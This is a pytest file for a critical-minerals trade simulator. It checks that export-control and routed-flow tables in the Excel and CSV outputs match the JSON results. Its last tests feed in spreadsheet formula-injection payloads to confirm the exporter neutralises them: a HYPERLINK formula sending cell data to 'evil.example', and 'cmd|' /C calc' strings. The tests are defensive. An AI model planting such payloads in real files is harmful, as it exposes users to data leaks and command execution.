"""Export controls in the Excel workbook and the CSV files (critmin.export, critmin.frames):
runs with controls get an ``export_controls`` and a ``routed_flows`` sheet whose numbers are
those of the results contract (the JSON), read back from the files; runs without get neither."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from typer.testing import CliRunner

from critmin.cli import app
from critmin.export import table_csv, write_csvs, write_xlsx
from critmin.frames import CONTROL_TABLES, TABLES, column_header, table_names

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
LEAKY_LICENCE = EXAMPLES / "controls" / "antimony_licensing_leakage_2025.toml"
LEAKY_BAN = EXAMPLES / "controls" / "ga_ge_sb_ban_us_2024.toml"
TIGHT_BAN = EXAMPLES / "02_china_bans_gallium_magnets.toml"
NO_CONTROLS = EXAMPLES / "01_lithium_floor_levy.toml"

Reader = Callable[[str], pd.DataFrame]
"""A table of the written files by name (``export_controls``, ...), with the unit headers."""


def simulate_json(path: Path) -> dict[str, Any]:
    """``critmin simulate PATH --json``: the results contract the CLI prints."""
    r = CliRunner().invoke(app, ["simulate", str(path), "--json"])
    assert r.exit_code == 0, r.output
    data: dict[str, Any] = json.loads(r.stdout)
    return data


_RUNS: dict[Path, dict[str, Any]] = {}


def results_of(path: Path) -> dict[str, Any]:
    if path not in _RUNS:
        _RUNS[path] = simulate_json(path)
    return _RUNS[path]


def workbook_reader(data: dict[str, Any], folder: Path) -> Reader:
    book = pd.read_excel(write_xlsx(data, folder / "run.xlsx"), sheet_name=None)
    return lambda name: book[name]


def csv_reader(data: dict[str, Any], folder: Path) -> Reader:
    paths = {p.stem: p for p in write_csvs(data, folder / "csv")}
    return lambda name: pd.read_csv(paths[name])


def h(column: str) -> str:
    return column_header(column)


def close(a: Any, b: Any) -> bool:
    """Equal numbers (to 1e-12 relative: Excel and CSV store the float's digits), or both
    missing."""
    if b is None:
        return bool(pd.isna(a))
    return bool(a == pytest.approx(b, rel=1e-12, abs=1e-9))


def check_controls(data: dict[str, Any], read: Reader) -> None:
    """The control sheets read back equal the JSON: every quota group of ``export_controls``,
    every banned exporter, every routed flow; the customs-comparable exports and the watch
    countries' exports to the zone."""
    controls, routed = read("export_controls"), read("routed_flows")
    n_groups = n_routed = 0
    for pid, p in data["products"].items():
        mine = controls[controls[h("product")] == pid]
        for c in p["export_controls"]:
            n_groups += 1
            dest = ", ".join(c["destinations"])
            row = mine[(mine[h("exporter")] == c["exporter"]) & (mine[h("destinations")] == dest)]
            assert len(row) == 1, (pid, c["exporter"])
            r = row.iloc[0]
            for key in (
                "cap_usd",
                "exports_usd",
                "export_tax_equivalent_pct",
                "leaked_usd",
                "leaked_share_of_cut",
            ):
                assert close(r[h(key)], c[key]), (pid, key)
            base = sum(
                f["baseline_value_usd"]
                for f in p["flows"]
                if f["exporter"] == c["exporter"] and f["importer"] in set(c["destinations"])
            )  # the cap's share of baseline, from the flows themselves
            assert close(r[h("baseline_usd")], base)
            assert close(r[h("cap_share")], c["cap_usd"] / base)
        banned: dict[str, float] = {}
        for f in p["flows"]:
            if f.get("banned"):
                banned[f["exporter"]] = banned.get(f["exporter"], 0.0) + f["baseline_value_usd"]
        bans = mine[mine[h("kind")] == "ban"].set_index(h("exporter"))
        assert set(bans.index) == set(banned), pid
        for exporter, base in banned.items():
            assert close(bans.loc[exporter, h("baseline_usd")], base)
            assert bans.loc[exporter, h("cap_usd")] == 0.0
        sheet = routed[routed[h("product")] == pid]
        assert len(sheet) == len(p["leakage"]), pid
        for x in p["leakage"]:
            n_routed += 1
            key = (sheet[h("origin")] == x["origin"]) & (sheet[h("via")] == x["via"])
            row = sheet[key & (sheet[h("destination")] == x["destination"])]
            assert len(row) == 1
            r = row.iloc[0]
            assert r[h("restriction")] == x["restriction"]
            for k in ("value_usd", "quantity_share_of_cap", "leaked_share_of_cut"):
                assert close(r[h(k)], x[k]), (pid, k)
            assert x["quantity_share_of_cap"] <= 1 + 1e-9  # leaked flows never exceed caps
        # customs-comparable exports (countries) and exports to the zone (products)
        countries = read("countries")
        rows = countries[countries[h("product")] == pid].set_index(h("country"))
        for code, c in p["countries"].items():
            for k in ("export_value_usd_before", "export_value_usd_after"):
                if c.get(k) is not None:
                    assert close(rows.loc[code, h(k)], c[k]), (pid, code, k)
            if c.get("export_price_change_pct") is not None:
                got = rows.loc[code, h("export_price_change_pct")]
                assert close(got, c["export_price_change_pct"]), (pid, code)
        products = read("products").set_index(h("product"))
        for k in ("watch_exports_to_zone_share_before", "watch_exports_to_zone_share_after"):
            assert close(products.loc[pid, h(k)], p["zone"][k])
    assert len(controls) >= n_groups and len(routed) == n_routed


@pytest.mark.parametrize("path", [LEAKY_LICENCE, LEAKY_BAN, TIGHT_BAN], ids=lambda p: p.stem)
def test_workbook_control_sheets_equal_the_json(path: Path, tmp_path: Path) -> None:
    data = results_of(path)
    assert table_names(data) == (*TABLES, *CONTROL_TABLES)
    check_controls(data, workbook_reader(data, tmp_path))


@pytest.mark.parametrize("path", [LEAKY_LICENCE, LEAKY_BAN], ids=lambda p: p.stem)
def test_csv_control_files_equal_the_json(path: Path, tmp_path: Path) -> None:
    data = results_of(path)
    names = [p.name for p in write_csvs(data, tmp_path / "names")]
    assert names[-2:] == ["export_controls.csv", "routed_flows.csv"]
    check_controls(data, csv_reader(data, tmp_path))


def test_the_sheets_say_what_the_controls_are() -> None:
    """The leaky licence is one leaky quota group at its cap, its routes full or nearly; the
    leaky ban's rows are leaky bans whose routes restrict ``ban``; headers carry units."""
    licence = results_of(LEAKY_LICENCE)
    text = table_csv(licence, "export_controls")
    controls = pd.read_csv(io.StringIO(text))
    assert "cap at baseline prices (USD)" in controls.columns
    assert "cap share of baseline exports (fraction 0-1)" in controls.columns
    row = controls.iloc[0]
    assert (row[h("exporter")], row[h("kind")], bool(row[h("binding")])) == (
        "CHN",
        "leaky quota",
        True,
    )
    ban = results_of(LEAKY_BAN)
    routed = pd.read_csv(io.StringIO(table_csv(ban, "routed_flows")))
    assert set(routed[h("restriction")]) == {"ban"}
    for _, rows in routed.groupby(h("product")):  # largest first, as the report lists them
        values = list(rows[h("value_usd")])
        assert values == sorted(values, reverse=True)
    kinds = set(pd.read_csv(io.StringIO(table_csv(ban, "export_controls")))[h("kind")])
    assert "leaky ban" in kinds


def test_no_control_sheets_without_controls(tmp_path: Path) -> None:
    data = results_of(NO_CONTROLS)
    assert not any(p["export_controls"] or p["leakage"] for p in data["products"].values())
    assert table_names(data) == TABLES
    with pd.ExcelFile(write_xlsx(data, tmp_path / "plain.xlsx")) as book:
        assert book.sheet_names == ["summary", *TABLES, "sources"]
    names = [p.name for p in write_csvs(data, tmp_path / "csv")]
    assert names == ["warnings.csv", *(f"{t}.csv" for t in TABLES)]


def test_dashboard_downloads_have_the_control_tables(tmp_path: Path) -> None:
    """The dashboard's workbook and CSV downloads of a run with controls carry both tables (the
    same text as ``critmin.export``); a run without controls offers neither."""
    import tomllib

    from fastapi.testclient import TestClient
    from openpyxl import load_workbook

    from critmin.web.app import create_app
    from critmin.web.store import ScenarioStore

    db = tmp_path / "scenarios.sqlite3"
    with TestClient(create_app(db)) as client:
        for path, offered in ((LEAKY_LICENCE, True), (NO_CONTROLS, False)):
            data = results_of(path)
            scenario = tomllib.loads(path.read_text(encoding="utf-8"))
            rid = ScenarioStore(db).put_run(scenario, data)
            book = load_workbook(io.BytesIO(client.get(f"/api/runs/{rid}/workbook.xlsx").content))
            assert (set(CONTROL_TABLES) <= set(book.sheetnames)) is offered
            for name in CONTROL_TABLES:
                r = client.get(f"/api/runs/{rid}/tables/{name}.csv")
                assert r.status_code == (200 if offered else 404)
                if offered:
                    assert r.text == table_csv(data, name)
            page = client.get(f"/runs/{rid}").text
            for name in CONTROL_TABLES:  # the page links the tables it offers, no others
                assert (f"/api/runs/{rid}/tables/{name}.csv" in page) is offered


def test_names_starting_like_a_formula_stay_text_in_exports(tmp_path: Path) -> None:
    """A scenario named '=HYPERLINK(...)' (or any text starting with =, +, @) is text in the
    workbook and quoted in the CSV tables: no spreadsheet runs it."""
    import openpyxl

    from critmin.simulation import simulate

    data = simulate(EXAMPLES / "01_lithium_floor_levy.toml").to_dict()
    data["scenario"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    book = openpyxl.load_workbook(write_xlsx(data, tmp_path / "w.xlsx"))
    formulas = [
        (ws.title, c.coordinate)
        for ws in book
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    assert book["summary"]["B2"].value.startswith("=HYPERLINK")  # kept as text
    for name in table_names(data):
        for line in table_csv(data, name).splitlines():
            for cell in line.split(","):
                assert not cell.startswith(("=", "+", "@")), (name, cell)


def test_text_starting_with_a_minus_is_no_formula_in_csv(tmp_path: Path) -> None:
    """A user product whose id starts with '-' (OWASP's ``-1+1+cmd|' /C calc'!A0``, which
    Excel runs as a formula from a CSV file) is quoted in every CSV table, as '=', '+' and '@'
    are; numbers (a negative change) stay numbers."""
    flows = tmp_path / "w.csv"
    flows.write_text(
        "exporter,importer,value_usd\nCHN,USA,1000000\nCHN,CHN,5000000\n"
        "AUS,USA,500000\nAUS,CHN,800000\nUSA,USA,300000\n",
        encoding="utf-8",
    )
    pid = "-1+1+cmd|' /C calc'!A0"
    scenario = tmp_path / "s.toml"
    scenario.write_text(
        'name = "minus"\n[zone]\nmembers = ["USA", "AUS"]\nwatch = ["CHN"]\n'
        f'[[product]]\nid = "{pid}"\nflows = "w.csv"\nbaseline_price_usd_per_t = 1000\n'
        '[[policy]]\ntype = "tariff"\nrate = 0.2\n',
        encoding="utf-8",
    )
    res = CliRunner().invoke(app, ["simulate", str(scenario), "--csv", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    for name in ("products", "countries", "flows", "welfare"):
        frame = pd.read_csv(tmp_path / "out" / f"{name}.csv", dtype=str, keep_default_na=False)
        assert set(frame["product id"]) - {"all"} == {f"'{pid}"}, name
    flows_out = pd.read_csv(tmp_path / "out" / "flows.csv")
    assert (flows_out["value change (USD)"] < 0).any()  # negative numbers are not quoted


def test_workbook_names_its_sources(tmp_path: Path) -> None:
    """The workbook's last sheet gives publisher, title, edition, licence and link of every
    bundled table the results rest on and when the dataset was built, as the report does: a
    workbook sent on alone said nothing of the data's editions."""
    from openpyxl import load_workbook

    from critmin.export import source_rows

    book = load_workbook(write_xlsx(results_of(NO_CONTROLS), tmp_path / "plain.xlsx"))
    assert book.sheetnames[-1] == "sources"
    sheet = book["sources"]
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("dataset table", "publisher", "title", "edition", "licence", "link")
    found = source_rows()
    assert found["rows"] and len(rows) == 1 + len(found["rows"]) + 1
    baci = [r for r in rows[1:] if r[0] == "flows" and r[1] == "CEPII"]
    assert baci and baci[0][3] and str(baci[0][5]).startswith("https://")
    assert rows[-1][2] == "dataset built (UTC)" and rows[-1][3] == found["built"]


def test_sweep_and_draws_csv_files_quote_a_product_id_that_starts_a_formula(
    tmp_path: Path,
) -> None:
    """The draws of ``critmin uncertainty --draws-out`` and the tables of ``critmin paths``
    wrote a user product's id as given: ``=1+1+cmd|' /C calc'!A0`` ran as a formula where a
    spreadsheet opened them. They quote it as the simulation's CSV tables do; numbers stay
    numbers. (The sweep's table names no product, only figures; its writer quotes text too.)"""
    from critmin.paths.results import _csv_text

    flows = tmp_path / "w.csv"
    flows.write_text(
        "exporter,importer,value_usd\nCHN,USA,1000000\nCHN,CHN,5000000\n"
        "AUS,USA,500000\nAUS,CHN,800000\nUSA,USA,300000\n",
        encoding="utf-8",
    )
    pid = "=1+1+cmd|' /C calc'!A0"
    scenario = tmp_path / "s.toml"
    scenario.write_text(
        'name = "formula"\n[zone]\nmembers = ["USA", "AUS"]\nwatch = ["CHN"]\n'
        f'[[product]]\nid = "{pid}"\nflows = "w.csv"\nbaseline_price_usd_per_t = 1000\n'
        '[[policy]]\ntype = "tariff"\nrate = 0.2\n',
        encoding="utf-8",
    )
    runner = CliRunner()
    draws = tmp_path / "draws.csv"
    res = runner.invoke(
        app, ["uncertainty", str(scenario), "-n", "3", "--draws-out", str(draws), "--no-progress"]
    )
    assert res.exit_code == 0, res.output
    text = draws.read_text(encoding="utf-8")
    assert f"'{pid}" in text and f",{pid}" not in text and not text.startswith(pid), text[:300]
    sweep = tmp_path / "sweep.csv"
    res = runner.invoke(
        app,
        [
            "sweep",
            str(scenario),
            "--param",
            "policy[0].rate",
            "--values",
            "0.1,0.2",
            "--csv",
            str(sweep),
        ],
    )
    assert res.exit_code == 0, res.output
    frame = pd.read_csv(sweep, dtype=str, keep_default_na=False)
    cells = {v for col in frame.columns for v in frame[col]}
    assert pid not in cells and not any(v.startswith("=") for v in cells), cells
    assert _csv_text([["stage", pid, -1.5]]) == f"stage,'{pid},-1.5\r\n"
